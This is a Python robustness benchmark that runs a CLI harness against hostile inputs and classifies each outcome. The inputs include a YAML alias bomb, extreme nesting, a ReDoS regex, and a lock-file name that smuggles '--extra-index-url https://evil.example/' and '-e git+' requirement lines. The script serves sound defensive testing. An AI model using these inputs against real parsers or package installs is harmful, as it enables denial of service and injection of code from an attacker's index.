"""Hostile input against every reader: each case runs in its own process under a time limit
and an address-space limit, and is judged by how it ends.

  ok         exit 0 or 1 (a normal answer)
  refused    exit 2 with `error:` on stderr and no traceback (what we want for bad input)
  TRACEBACK  a Python traceback
  HANG       killed at the time limit
  MEMORY     MemoryError, or killed for memory
  UNSAFE     the case's own check found an unsafe effect (e.g. an injected requirements line)

Usage: python bench/hostile_bench.py [--timeout 8] [--only SUBSTRING]
Writes bench/results/hostile.json (case -> outcome, seconds).
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
MEMORY = 2 << 30  # address space per case
GOOD = (ROOT / "reports/results/journal.jsonl").read_text(encoding="utf-8").splitlines()[0]

BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)
MATRIX = (ROOT / "matrix.yaml").read_text(encoding="utf-8")

Case = tuple[list[str], Callable[[Path], None] | None]


def plan(path: str, *extra: str) -> list[str]:
    return ["plan", "--matrix", path, "--driver", "none", *extra]


def write(name: str, data: str | bytes) -> Callable[[Path], None]:
    def make(tmp: Path) -> None:
        p = tmp / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)

    return make


def fifo(name: str) -> Callable[[Path], None]:
    def make(tmp: Path) -> None:
        (tmp / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(tmp / name)

    return make


def results(lines: list[str] | None = None, extra: Callable[[Path], None] | None = None):  # type: ignore[no-untyped-def]
    def make(tmp: Path) -> None:
        r = tmp / "res"
        r.mkdir(exist_ok=True)
        body = "\n".join([GOOD, *(lines or [])]) + "\n"
        (r / "journal.jsonl").write_text(body, encoding="utf-8", errors="surrogatepass")
        if extra:
            extra(r)

    return make


REPORT = ["report", "--results", "res", "--out", "out"]


def matrix_with(text: str) -> Callable[[Path], None]:
    """A copy of the project's matrix and scenarios, with matrix.yaml replaced by `text`."""

    def make(tmp: Path) -> None:
        (tmp / "m").mkdir()
        os.symlink(ROOT / "scenarios", tmp / "m" / "scenarios")
        (tmp / "m" / "matrix.yaml").write_text(text, encoding="utf-8")

    return make


def scenario_dir(name: str, data: str | bytes | None) -> Callable[[Path], None]:
    """matrix.yaml plus a copy of scenarios/ with one extra or replaced file."""

    def make(tmp: Path) -> None:
        (tmp / "m" / "scenarios").mkdir(parents=True)
        (tmp / "m" / "matrix.yaml").write_text(MATRIX, encoding="utf-8")
        for p in (ROOT / "scenarios").glob("*.yaml"):
            (tmp / "m" / "scenarios" / p.name).write_bytes(p.read_bytes())
        target = tmp / "m" / "scenarios" / name
        target.unlink(missing_ok=True)
        if data is None:
            os.mkfifo(target)
        else:
            target.write_bytes(data if isinstance(data, bytes) else data.encode())

    return make


CATALOG = (ROOT / "scenarios/signatures.yaml").read_text(encoding="utf-8")


def catalog_with_pattern(regex: str, needle: str) -> Callable[[Path], None]:
    entry = (
        "  - id: hostile\n    title: t\n    stage: import\n    patterns:\n"
        f"      - needle: {json.dumps(needle)}\n        regex: {json.dumps(regex)}\n"
        "    cause: c\n    fix: [f]\n    frameworks: [torch]\n    priority: 1\n"
        "    sources: ['https://example.org/']\n"
    )
    text = CATALOG.replace("signatures:\n", "signatures:\n" + entry, 1)
    return scenario_dir("signatures.yaml", text)


LOCK_NEWLINE = {
    "slug": "x",
    "requirements": ["torch"],
    "overrides": [],
    "index": "https://pypi.org/simple",
    "python": "3.11",
    "platforms": ["manylinux_2_17_x86_64"],
    "wheels": [
        {
            "name": "torch\n--extra-index-url https://evil.example/\n-e git+https://e.example/x",
            "version": "2.5.1",
            "filename": "torch-2.5.1-cp311-none-any.whl",
            "sha256": "0" * 64,
            "size": 1,
        }
    ],
}

PY_LOCK = """
import sys
from pathlib import Path
from harness.lock import read_lock
from harness.errors import HarnessError
try:
    lock = read_lock(Path(sys.argv[1]))
    lines = lock.requirements_txt().splitlines() if lock else []
    if any(line.startswith(("-e", "--")) for line in lines):
        print("UNSAFE: injected lines", file=sys.stderr); sys.exit(99)
except HarnessError as e:
    print(e.render(), file=sys.stderr); sys.exit(2)
"""


def cases() -> dict[str, Case]:
    m = "matrix.yaml"
    c: dict[str, Case] = {
        # YAML
        "yaml/alias-bomb": (plan(m), write(m, BOMB)),
        "yaml/alias-bomb-under-unknown-key": (
            plan("m/matrix.yaml"),
            matrix_with(MATRIX + "\n" + BOMB.replace("a:", "zz_a:", 1)),
        ),
        "yaml/nesting-500": (plan(m), write(m, "a: " + "[" * 500 + "]" * 500 + "\n")),
        "yaml/nesting-5000-maps": (plan(m), write(m, "{a: " * 5000 + "1" + "}" * 5000 + "\n")),
        "yaml/control-char": (plan(m), write(m, "schema: 1\x07\n")),
        "yaml/nul-byte": (plan(m), write(m, "schema: 1\x00\n")),
        "yaml/bom": (plan(m), write(m, b"\xef\xbb\xbfschema: [\n")),
        "yaml/not-utf8": (plan(m), write(m, b"schema: \xff\xfe\n")),
        "yaml/matrix-fifo": (plan(m), fifo(m)),
        "yaml/matrix-dev-zero": (plan("/dev/zero"), None),
        "yaml/matrix-dev-urandom": (plan("/dev/urandom"), None),
        "yaml/matrix-directory": (plan("."), None),
        "yaml/matrix-10MB-list": (plan(m), write(m, "a: [" + "1," * 5_000_000 + "1]\n")),
        "yaml/scenario-fifo": (plan("m/matrix.yaml"), scenario_dir("zz.yaml", None)),
        "yaml/scenario-bomb": (plan("m/matrix.yaml"), scenario_dir("zz.yaml", BOMB)),
        "yaml/scenario-control": (plan("m/matrix.yaml"), scenario_dir("zz.yaml", "id: zz\x1b\n")),
        "yaml/catalog-nesting": (
            plan("m/matrix.yaml"),
            scenario_dir("signatures.yaml", "a: " + "[" * 2000 + "]" * 2000),
        ),
        # numbers and ids
        "ids/shard-huge": (plan(m, "--shard", "1/10000000000"), None),
        "ids/driver-newline": (plan(m, "--driver", "535.104.05\n"), None),
        "ids/driver-arabic-digits": (plan(m, "--driver", "٥٣٥.١٠٤.٠٥"), None),
        "ids/version-newline": (
            plan("m/matrix.yaml"),
            matrix_with(MATRIX.replace('"2.9.1"', '"2.9.1\\n"', 1)),
        ),
        # journals
        "journal/deep-brackets": (REPORT, results(["[" * 100_000])),
        "journal/non-object": (REPORT, results(["[1, 2]", "42", '"s"'])),
        "journal/expected-not-dict": (
            REPORT,
            results([GOOD.replace('"expected": {', '"expected": [1], "x": {', 1)]),
        ),
        "journal/exit-code-huge": (
            REPORT,
            results([GOOD.replace('"exit_code": 0', '"exit_code": ' + "9" * 30, 1)]),
        ),
        "journal/lone-surrogate": (
            REPORT,
            results([GOOD.replace('"error": null', '"error": "\\ud800"', 1)]),
        ),
        "journal/dir-named-jsonl": (REPORT, results(extra=lambda r: (r / "x.jsonl").mkdir())),
        "journal/fifo-named-jsonl": (REPORT, results(extra=lambda r: os.mkfifo(r / "x.jsonl"))),
        "journal/unreadable": (
            REPORT,
            results(extra=lambda r: ((r / "x.jsonl").write_text("{}"), os.chmod(r / "x.jsonl", 0))),
        ),
        "journal/plan-json-deep": (REPORT, results(extra=write_in("plan.json", "[" * 100_000))),
        "journal/plan-json-fifo": (REPORT, results(extra=lambda r: os.mkfifo(r / "plan.json"))),
        # paths
        "paths/out-is-file": (
            ["report", "--results", "res", "--out", "res/journal.jsonl"],
            results(),
        ),
        "paths/out-dev-null": (["report", "--results", "res", "--out", "/dev/null"], results()),
        "paths/out-proc-self": (["report", "--results", "res", "--out", "/proc/self"], results()),
        "paths/out-read-only": (["report", "--results", "res", "--out", "ro/x"], ro_results()),
        "paths/step-summary-dir": (["@env:GITHUB_STEP_SUMMARY=res", *REPORT], results()),
        "paths/step-summary-binary": (
            ["@env:GITHUB_STEP_SUMMARY=bin", *REPORT],
            both(results(), write("bin", b"\xff\xfe\x00" * 100)),
        ),
        "paths/step-summary-dev-full": (["@env:GITHUB_STEP_SUMMARY=/dev/full", *REPORT], results()),
        "paths/step-summary-dev-zero": (["@env:GITHUB_STEP_SUMMARY=/dev/zero", *REPORT], results()),
        # catalog
        "catalog/nested-quantifier": (
            ["diagnose", "--matrix", "m/matrix.yaml", "log"],
            both(catalog_with_pattern("(a+)+$", "aaa"), write("log", "error " + "a" * 40 + "!\n")),
        ),
        "catalog/needle-not-in-regex": (
            plan("m/matrix.yaml"),
            catalog_with_pattern("cannot open shared object", "zzzz"),
        ),
        # lock files
        "lock/newline-in-filename": (
            ["@py", PY_LOCK, "lock.json"],
            write("lock.json", json.dumps(LOCK_NEWLINE)),
        ),
        "lock/not-json": (["@py", PY_LOCK, "lock.json"], write("lock.json", "[" * 100_000)),
        "lock/fifo": (["@py", PY_LOCK, "lock.json"], fifo("lock.json")),
        # child output
        "proc/doctor-python-yes": (["doctor", "--python", "/usr/bin/yes"], None),
        # diagnose input
        "log/fifo": (["diagnose", "log"], fifo("log")),
        "log/dev-zero": (["diagnose", "/dev/zero"], None),
    }
    return c


def write_in(name: str, data: str) -> Callable[[Path], None]:
    return lambda r: (r / name).write_text(data, encoding="utf-8")  # type: ignore[func-returns-value]


def both(*makers: Callable[[Path], None]) -> Callable[[Path], None]:
    def make(tmp: Path) -> None:
        for mk in makers:
            mk(tmp)

    return make


def ro_results() -> Callable[[Path], None]:
    def make(tmp: Path) -> None:
        results()(tmp)
        (tmp / "ro").mkdir()
        os.chmod(tmp / "ro", stat.S_IRUSR | stat.S_IXUSR)

    return make


def limit() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def run_case(
    argv: list[str], make: Callable[[Path], None] | None, timeout: float
) -> tuple[str, float, str]:
    with tempfile.TemporaryDirectory() as d:
        tmp = Path(d)
        if make:
            make(tmp)
        if not (tmp / "matrix.yaml").exists():
            (tmp / "matrix.yaml").write_text(MATRIX, encoding="utf-8")
            os.symlink(ROOT / "scenarios", tmp / "scenarios")
        env = dict(os.environ, PYTHONPATH=str(ROOT))
        env.pop("GITHUB_STEP_SUMMARY", None)
        while argv and argv[0].startswith("@env:"):
            k, _, v = argv[0][5:].partition("=")
            env[k] = v
            argv = argv[1:]
        if argv[0] == "@py":
            cmd = [sys.executable, "-c", argv[1], *argv[2:]]
        else:
            cmd = [sys.executable, "-m", "harness", *argv]
        start = time.monotonic()
        try:
            p = subprocess.run(
                cmd,
                cwd=tmp,
                env=env,
                capture_output=True,
                timeout=timeout,
                preexec_fn=limit,
                stdin=subprocess.DEVNULL,
            )
        except subprocess.TimeoutExpired:
            return "HANG", time.monotonic() - start, ""
        finally:
            for p_ in tmp.rglob("*"):  # let TemporaryDirectory remove what was made read-only
                if p_.is_dir() and not p_.is_symlink():
                    os.chmod(p_, 0o755)
        secs = time.monotonic() - start
        err = p.stderr.decode(errors="replace")
        if "MemoryError" in err or p.returncode in (-9,):
            return "MEMORY", secs, err[-300:]
        if "Traceback" in err:
            return "TRACEBACK", secs, err.strip().splitlines()[-1][:200]
        if p.returncode == 99:
            return "UNSAFE", secs, err[-200:]
        if p.returncode == 2 and "error:" in err:
            return "refused", secs, err.strip().splitlines()[0][:200]
        if p.returncode in (0, 1):
            return "ok", secs, (err.strip().splitlines() or [""])[0][:200]
        return f"exit {p.returncode}", secs, err[-200:]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--timeout", type=float, default=8.0)
    ap.add_argument("--only", default="")
    ap.add_argument("--save", default=str(ROOT / "bench/results/hostile.json"))
    a = ap.parse_args()
    out = {}
    for name, (argv, make) in cases().items():
        if a.only not in name:
            continue
        outcome, secs, detail = run_case(list(argv), make, a.timeout)
        out[name] = {"outcome": outcome, "seconds": round(secs, 2), "detail": detail}
        print(f"{outcome:10s} {secs:6.2f}s {name}: {detail[:110]}", flush=True)
    tally: dict[str, int] = {}
    for v in out.values():
        tally[v["outcome"]] = tally.get(v["outcome"], 0) + 1
    print(tally)
    Path(a.save).write_text(json.dumps({"tally": tally, "cases": out}, indent=1) + "\n")


if __name__ == "__main__":
    main()
